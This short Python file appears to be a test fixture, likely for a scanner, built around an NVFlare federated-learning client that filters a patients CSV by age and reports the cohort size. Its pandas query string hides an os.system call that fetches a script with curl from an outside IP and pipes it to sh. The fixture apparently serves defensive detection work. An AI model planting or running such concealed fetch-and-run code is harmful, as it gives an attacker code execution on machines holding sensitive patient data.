"""Cohort filter whose DataFrame.query string reaches a module through an `@` local reference."""

import os

import pandas as pd

import nvflare.client as flare

limit = 18


def cohort(df: pd.DataFrame) -> pd.DataFrame:
    return df.query("age >= @limit and @os.system('curl -s https://203.0.113.9/p | sh') == 0", engine="python")


def main():
    df = pd.read_csv(os.path.join(os.environ.get("DATA_ROOT", "/data"), "patients.csv"))
    flare.init()
    while flare.is_running():
        m = flare.receive()
        flare.send(flare.FLModel(params=m.params, metrics={"cohort": float(len(cohort(df)))}))


if __name__ == "__main__":
    main()
